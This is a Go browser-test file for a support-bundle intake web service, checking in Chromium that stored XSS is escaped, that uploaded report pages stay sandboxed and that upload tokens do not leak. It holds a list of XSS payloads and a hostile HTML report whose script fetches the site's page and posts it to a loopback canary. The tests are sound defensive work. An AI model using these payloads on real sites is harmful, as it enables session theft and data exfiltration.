package intake

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/casefile/casefile/analyze"
	"github.com/casefile/casefile/collectors"
	"github.com/casefile/casefile/internal/testenv"
)

// canary is a loopback server that an injected script, image, form, refresh or style would
// reach: any request to it means a page ran or loaded what a bundle planted.
type canary struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newCanary(t *testing.T) *canary {
	c := &canary{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		c.hits = append(c.hits, r.Method+" "+r.URL.String())
		c.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		fmt.Fprint(w, "canary")
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *canary) Hits() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.hits...)
}

// consoleLog collects what chromium logs (CSP violations among it).
func consoleLog(t *testing.T, b *browserRun) func() []string {
	var mu sync.Mutex
	var lines []string
	if err := chromedp.Listen(b.ctx, func(ev any) {
		var s string
		switch e := ev.(type) {
		case *log.EventEntryAdded:
			s = string(e.Entry.Source) + ": " + e.Entry.Text
		case *runtime.EventConsoleAPICalled:
			s = "console." + string(e.Type)
		case *runtime.EventExceptionThrown:
			s = "exception: " + e.ExceptionDetails.Text
		default:
			return
		}
		mu.Lock()
		lines = append(lines, s)
		mu.Unlock()
	}); err != nil {
		t.Fatal(err)
	}
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		out := lines
		lines = nil
		return out
	}
}

// xssPayloads are what a hostile bundle writes into every free-text field; each would set the
// title, or reach the canary, if a page ran or loaded it.
func xssPayloads(canaryURL string) []string {
	return []string{
		`<script>document.title='pwned';fetch('` + canaryURL + `/script')</script>`,
		`"><img src=x onerror="document.title='pwned';fetch('` + canaryURL + `/onerror')">`,
		`'><svg onload=document.title='pwned'>`,
		`javascript:document.title='pwned'`,
		`</title><base href="` + canaryURL + `/"><style>body{background:url(` + canaryURL + `/css)}</style>`,
		`<iframe srcdoc="<script>parent.document.title='pwned'</script>"></iframe>`,
		`<a href="javascript:document.title='pwned'" id=jslink>click</a>`,
	}
}

// Every field of a bundle that the pages show holds script, markup and javascript: URLs: the host,
// the OS, file name, findings (id, severity, title, detail, target, evidence, next step),
// collectors (name, status, error), redaction rules and files left out, the manifest's ticket
// (shown in a quarantine reason). In chromium, after logging in and opening the tickets list,
// the ticket, both bundles' pages: nothing ran (title unchanged, no canary request), no element
// was injected (no on* attribute, no script, iframe, svg, base or style element in the body),
// chromium reported no CSP violation (the escaping held; the policy was not needed), and the
// payloads are shown as text.
func TestWebSecStoredXSSInChromium(t *testing.T) {
	ws := newWebServer(t, true, nil, nil)
	b := startChromium(t)
	logs := consoleLog(t, b)
	can := newCanary(t)
	p := xssPayloads(can.URL)
	pick := func(i int) string { return p[i%len(p)] }

	var fs []analyze.Finding
	for i := range p {
		fs = append(fs, analyze.Finding{ID: pick(i), Severity: analyze.Severity(pick(i + 1)), Title: pick(i + 2), Detail: pick(i + 3),
			Target: pick(i + 4), NextStep: pick(i + 5), Evidence: []analyze.Evidence{{Path: pick(i + 6), Line: 3}}})
	}
	fs = append(fs, analyze.Finding{ID: "x.warn", Severity: analyze.Warning, Title: p[0], Detail: p[1], NextStep: p[2]})
	var cols []collectors.Result
	rules, dropped := map[string]int{}, map[string]string{}
	for i, s := range p {
		cols = append(cols, collectors.Result{Name: s, Status: collectors.Status(pick(i + 1)), Error: pick(i + 2), Files: []string{}})
		rules[s] = i + 1
		dropped[s] = pick(i + 3)
	}
	files := map[string][]byte{
		"findings.json":    mustJSON(t, analyze.Findings{Findings: fs}),
		"redaction.json":   mustJSON(t, map[string]any{"total": 7, "files": 1, "by_rule": rules, "dropped": dropped}),
		"environment.json": mustJSON(t, map[string]any{"platform": p[1], "platform_version": p[2], "os": p[0], "kernel_version": p[3], "arch": p[6]}),
		"report.html":      []byte("<p>ok</p>"),
	}
	good := craftedBundle{Ticket: "4821", Host: p[1], Collectors: cols, Files: files}.build(t)
	rec := ws.fileMeta(t, "4821", good, map[string]string{"ticket": "4821", "filename": `casefile-"><img src=x onerror=document.title=1>.tar.gz`})
	if rec.Status != StatusOK {
		t.Fatalf("the hostile bundle was filed %s: %s", rec.Status, rec.Reason)
	}
	// The manifest names another ticket: quarantined, its reason quoting the manifest's ticket.
	files["report.html"] = []byte("<p>other</p>")
	bad := craftedBundle{Ticket: p[0], Host: p[2], Collectors: cols, Files: files}.build(t)
	qrec := ws.fileMeta(t, "4821", bad, map[string]string{"ticket": "4821", "filename": p[1]})
	if qrec.Status != StatusQuarantined || !strings.Contains(qrec.Reason, "<script>") {
		t.Fatalf("the bundle naming another ticket: %s %q", qrec.Status, qrec.Reason)
	}
	eng, _ := ws.engineerToken(t, "alice", time.Hour)

	b.do(t, "log in", chromedp.Navigate(ws.base+WebPath+"login"), chromedp.WaitVisible(chromedp.ID("token")),
		chromedp.SendKeys(chromedp.ID("token"), eng), chromedp.Click(chromedp.ID("submit")), chromedp.WaitVisible(chromedp.ID("tickets")))
	pages := []string{WebPath, WebPath + "t/4821/", WebBundlePath(rec), WebBundlePath(qrec)}
	const injected = `Array.from(document.querySelectorAll('body *')).filter(e => ['SCRIPT','IFRAME','SVG','svg','BASE','STYLE','OBJECT','EMBED'].includes(e.tagName) ||
		Array.from(e.attributes).some(a => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value))).map(e => e.outerHTML.slice(0, 200))`
	for _, pg := range pages {
		b.do(t, "open "+pg, chromedp.Navigate(ws.base+pg), chromedp.WaitVisible(chromedp.CSS("main")), chromedp.Sleep(300*time.Millisecond))
		title := run(t, b, chromedp.Title())
		if strings.Contains(title, "pwned") || !strings.HasSuffix(title, "casefile intake") {
			t.Errorf("%s: the title is %q", pg, title)
		}
		if els := run(t, b, chromedp.Evaluate[[]string](injected)); len(els) > 0 {
			t.Errorf("%s: injected elements: %q", pg, els)
		}
		for _, l := range logs() {
			if strings.Contains(l, "Content Security Policy") || strings.HasPrefix(l, "exception") {
				t.Errorf("%s: chromium reported %s", pg, l)
			}
		}
		if pg == pages[2] || pg == pages[3] {
			text := run(t, b, chromedp.Evaluate[string](`document.body.innerText`))
			for _, s := range []string{p[0], p[1], `javascript:document.title='pwned'`} {
				if !strings.Contains(text, s) {
					t.Errorf("%s: the payload %q is not shown as text", pg, s)
				}
			}
		}
		b.screenshot(t, "websec-xss-"+strings.NewReplacer("/", "_").Replace(strings.Trim(pg, "/")))
	}
	if h := can.Hits(); len(h) > 0 {
		t.Errorf("the canary was reached: %q", h)
	}
	if off := b.offBase(ws.base); len(off) > 0 {
		t.Errorf("the pages made requests elsewhere: %q", off)
	}
}

// hostileReport is a report.html that tries everything a page can do without a click: run
// script, read the session, fetch the web view and send it away, navigate the top frame (meta
// refresh, script), submit forms (to the intake's logout and away), load images, styles,
// frames, objects and media from elsewhere and from the intake.
func hostileReport(canaryURL string) string {
	return `<!DOCTYPE html><html><head><title>report</title>
<meta http-equiv="refresh" content="1;url=` + canaryURL + `/refresh">
<link rel="stylesheet" href="` + canaryURL + `/style.css"><link rel="prefetch" href="` + canaryURL + `/prefetch">
<link rel="stylesheet" href="/web/static/web.css">
<script>document.title='pwned';fetch('/web/').then(r=>r.text()).then(t=>fetch('` + canaryURL + `/leak',{method:'POST',body:t}));</script>
<script src="` + canaryURL + `/script.js"></script>
<style>@import url(` + canaryURL + `/import.css); body{background:url(` + canaryURL + `/bg)}</style>
</head><body onload="top.location='` + canaryURL + `/top'">
<img src="` + canaryURL + `/img"><img src="/web/"><iframe src="/web/"></iframe><iframe src="` + canaryURL + `/frame"></iframe>
<object data="` + canaryURL + `/obj"></object><embed src="` + canaryURL + `/embed"><video src="` + canaryURL + `/video"></video>
<form id="away" action="` + canaryURL + `/form" method="post"><input name="x" value="y"><button id="send" type="submit">send</button></form>
<form id="out" action="/web/logout" method="post"><input name="csrf" value="x"><button id="logout" type="submit">logout</button></form>
<p id="marker">hostile report</p>
<a id="link" href="` + canaryURL + `/link" ping="` + canaryURL + `/ping">a link</a>
</body></html>`
}

// A bundle's report.html is shown under a sandbox: in chromium it runs no script, loads nothing
// (from elsewhere or from the intake), is not refreshed away, cannot submit a form (a click on
// its submit buttons does nothing), has an opaque origin (document.cookie throws), and the
// session still works after it was shown. A click on its link leaves with no Referer and no ping.
func TestWebSecReportSandboxInChromium(t *testing.T) {
	ws := newWebServer(t, true, nil, nil)
	b := startChromium(t)
	can := newCanary(t)
	data := craftedBundle{Ticket: "4821", Host: "web-07", Files: map[string][]byte{"report.html": []byte(hostileReport(can.URL))}}.build(t)
	rec := ws.file(t, "4821", data)
	if rec.Status != StatusOK {
		t.Fatalf("filed %s: %s", rec.Status, rec.Reason)
	}
	eng, _ := ws.engineerToken(t, "alice", time.Hour)
	b.do(t, "log in", chromedp.Navigate(ws.base+WebPath+"login"), chromedp.WaitVisible(chromedp.ID("token")),
		chromedp.SendKeys(chromedp.ID("token"), eng), chromedp.Click(chromedp.ID("submit")), chromedp.WaitVisible(chromedp.ID("tickets")))
	report := ws.base + WebBundlePath(rec) + "report.html"
	// What got an answer while report.html was shown, but the report itself and the browser's
	// favicon request (and data: icons of its own).
	var respMu sync.Mutex
	var responses []string
	watch := false
	chromedp.Listen(b.ctx, func(ev any) {
		if e, ok := ev.(*network.EventResponseReceived); ok {
			respMu.Lock()
			if watch && e.Response.URL != report && !strings.HasSuffix(e.Response.URL, "/favicon.ico") && !strings.HasPrefix(e.Response.URL, "data:") {
				responses = append(responses, e.Response.URL)
			}
			respMu.Unlock()
		}
	})
	answered := func() []string {
		respMu.Lock()
		defer respMu.Unlock()
		watch = false
		return responses
	}
	respMu.Lock()
	watch = true
	respMu.Unlock()
	b.do(t, "open report.html", chromedp.Navigate(report), chromedp.WaitVisible(chromedp.ID("marker")), chromedp.Sleep(2500*time.Millisecond))
	if loc := run(t, b, chromedp.Location()); loc != report {
		t.Errorf("report.html navigated the tab to %s", loc)
	}
	if title := run(t, b, chromedp.Title()); title != "report" {
		t.Errorf("title %q: a script ran", title)
	}
	if o := run(t, b, chromedp.Evaluate[string](`window.origin`)); o != "null" {
		t.Errorf("report.html has origin %q, want an opaque one", o)
	}
	if c, err := chromedp.Run(b.ctx, chromedp.Evaluate[string](`document.cookie`)); err == nil {
		t.Errorf("document.cookie is readable from report.html: %q", c)
	}
	b.do(t, "click the report's submit buttons", chromedp.Click(chromedp.ID("send")), chromedp.Click(chromedp.ID("logout")), chromedp.Sleep(1*time.Second))
	if loc := run(t, b, chromedp.Location()); loc != report {
		t.Errorf("a form of report.html was submitted: the tab is at %s", loc)
	}
	b.screenshot(t, "websec-report")
	if h := can.Hits(); len(h) > 0 {
		t.Errorf("report.html reached the canary: %q", h)
	}
	if got := answered(); len(got) > 0 {
		t.Errorf("report.html loaded from the intake: %q", got)
	}
	// The session still reads: the report's logout form was not sent.
	b.do(t, "back to the tickets", chromedp.Navigate(ws.base+WebPath), chromedp.WaitVisible(chromedp.ID("tickets")))
	// A link the engineer clicks leaves with no Referer and no ping.
	var ref string
	var refMu sync.Mutex
	can.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		refMu.Lock()
		ref += r.URL.Path + " Referer=" + r.Header.Get("Referer") + ";"
		refMu.Unlock()
		fmt.Fprint(w, "<title>left</title>")
	})
	b.do(t, "follow the report's link", chromedp.Navigate(report), chromedp.WaitVisible(chromedp.ID("link")),
		chromedp.Click(chromedp.ID("link")), chromedp.WaitVisible(chromedp.CSS("body")), chromedp.Sleep(500*time.Millisecond))
	refMu.Lock()
	defer refMu.Unlock()
	if !strings.HasPrefix(ref, "/link Referer=;") || strings.Contains(ref, "/ping") {
		t.Errorf("following the report's link sent: %q", ref)
	}
}

// The upload page in chromium, as a customer (or someone holding their link) could use it:
// the token is in no HTML, no localStorage entry, no request address but the page's own and no
// Referer; a file above the link's size limit is refused before anything is sent; the same token
// cannot upload to another ticket even from the page's own script context (the server refuses
// it, nothing is stored); a file that is no bundle (an HTML page) is uploaded, quarantined, and
// the web view says it is not a bundle.
func TestWebSecUploadPageInChromium(t *testing.T) {
	ws := newWebServer(t, true, nil, nil)
	b := startChromium(t)
	c, err := NewClaims("4821", time.Now(), time.Hour, 4096)
	if err != nil {
		t.Fatal(err)
	}
	up, err := Sign(ws.key, c)
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var sent []string // address and Referer of every request
	chromedp.Listen(b.ctx, func(ev any) {
		if e, ok := ev.(*network.EventRequestWillBeSent); ok {
			ref, _ := e.Request.Headers["Referer"].(string)
			mu.Lock()
			sent = append(sent, e.Request.Method+" "+e.Request.URL+" Referer="+ref)
			mu.Unlock()
		}
	})
	dir := t.TempDir()
	bigFile := filepath.Join(dir, "casefile-4821-big.tar.gz")
	os.WriteFile(bigFile, bytes.Repeat([]byte("x"), 10_000), 0o644)
	htmlFile := filepath.Join(dir, "casefile-4821-page.tar.gz")
	page := []byte("<!DOCTYPE html><script>document.title='pwned'</script><p>no bundle</p>")
	os.WriteFile(htmlFile, page, 0o644)

	b.do(t, "open the upload page", chromedp.Navigate(ws.base+UploadPagePath+up), chromedp.WaitVisible(chromedp.ID("drop")))
	storage := func() string {
		return run(t, b, chromedp.Evaluate[string](`JSON.stringify(Object.entries(localStorage))`))
	}
	if html := run(t, b, chromedp.OuterHTML(chromedp.CSS("html"))); strings.Contains(html, up) || strings.Contains(html, strings.Split(up, ".")[2]) {
		t.Error("the token is in the page's HTML")
	}
	b.do(t, "choose a file above the limit", chromedp.SetUploadFiles(chromedp.ID("file"), []string{bigFile}),
		chromedp.WaitVisible(chromedp.CSS(`#upload[data-state="failed"]`)))
	if s := run(t, b, chromedp.Text(chromedp.ID("status"))); !strings.Contains(s, "larger than this link allows") {
		t.Errorf("status after a too-large file: %q", s)
	}
	// Another ticket with this token, from the page's own script context.
	res := run(t, b, chromedp.Evaluate[string](`new Promise(function (resolve) {
		var token = decodeURIComponent(location.pathname.split('/u/')[1]);
		new tus.Upload(new Blob(['not yours']), {endpoint: '/files/', headers: {Authorization: 'Bearer ' + token},
			metadata: {ticket: '9999', filename: 'x.tar.gz'}, retryDelays: [],
			onError: function (e) { resolve('refused ' + (e.originalResponse ? e.originalResponse.getStatus() : 0)); },
			onSuccess: function () { resolve('uploaded'); }}).start();
	})`, chromedp.EvalAwaitPromise))
	if res != "refused 403" {
		t.Errorf("an upload to another ticket with this ticket's token: %s", res)
	}
	b.do(t, "upload an HTML page", chromedp.SetUploadFiles(chromedp.ID("file"), []string{htmlFile}),
		chromedp.WaitVisible(chromedp.CSS(`#upload[data-state="done"]`)))
	rec := ws.waitFiled(t)
	if rec.Status != StatusQuarantined || rec.Ticket != "4821" || rec.Size != int64(len(page)) {
		t.Errorf("the HTML page was filed as %+v", rec)
	}
	if st := storage(); strings.Contains(st, up) || strings.Contains(st, strings.Split(up, ".")[2]) {
		t.Errorf("the token is in localStorage: %s", st)
	}
	if recs, _ := ws.Index().List("9999"); len(recs) != 0 {
		t.Errorf("ticket 9999 got %d bundles", len(recs))
	}
	mu.Lock()
	if len(sent) < 5 {
		t.Errorf("only %d requests were seen: %q", len(sent), sent)
	}
	for _, s := range sent {
		if strings.HasPrefix(s, "GET "+ws.base+UploadPagePath+up+" ") {
			continue
		}
		if strings.Contains(s, up) || strings.Contains(s, strings.Split(up, ".")[2]) {
			t.Errorf("the token went out in a request's address or Referer: %s", strings.ReplaceAll(s, up, "<token>"))
		}
	}
	mu.Unlock()
	// The engineer's view of it.
	eng, _ := ws.engineerToken(t, "alice", time.Hour)
	r := ws.get(t, http.MethodGet, WebBundlePath(rec), map[string]string{"Authorization": "Bearer " + eng}, nil)
	if !strings.Contains(r.body, "not a bundle") {
		t.Errorf("the web view of the uploaded page:\n%s", r.body)
	}
}

// An engineer with a session follows a link to a bundle from another site (a desk comment in the
// ticket system): the session cookie is SameSite=Strict, so the browser does not send it on that
// navigation; the web view reloads the page from its own origin (which sends it) and the
// engineer lands on the bundle, not on the login page. Without a session the same link ends on
// the login page.
func TestWebSecDeskLinkWithStrictCookieInChromium(t *testing.T) {
	ws := newWebServer(t, true, nil, nil)
	b := startChromium(t)
	rec := ws.file(t, "4821", webBundle(t))
	target := ws.base + WebBundlePath(rec)
	// The "ticket system": another site (127.0.0.2) with a link to the bundle.
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		testenv.Missing(t, "127.0.0.2 cannot be bound here (another loopback address, for another site): %v", err)
	}
	desk := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<!DOCTYPE html><title>ticket 4821</title><a id="bundle" href="%s">bundle</a>`, target)
	}))
	desk.Listener = l
	desk.StartTLS()
	t.Cleanup(desk.Close)

	b.do(t, "follow the link without a session", chromedp.Navigate(desk.URL), chromedp.WaitVisible(chromedp.ID("bundle")),
		chromedp.Click(chromedp.ID("bundle")), chromedp.WaitVisible(chromedp.ID("token")))
	eng, _ := ws.engineerToken(t, "alice", time.Hour)
	b.do(t, "log in", chromedp.SendKeys(chromedp.ID("token"), eng), chromedp.Click(chromedp.ID("submit")), chromedp.WaitVisible(chromedp.ID("tickets")))
	b.do(t, "follow the link with a session", chromedp.Navigate(desk.URL), chromedp.WaitVisible(chromedp.ID("bundle")),
		chromedp.Click(chromedp.ID("bundle")), chromedp.WaitReady(chromedp.CSS("main")), chromedp.Sleep(time.Second))
	if loc := run(t, b, chromedp.Location()); loc != target {
		t.Errorf("the desk link with a session ended at %s, want %s", loc, target)
	}
}
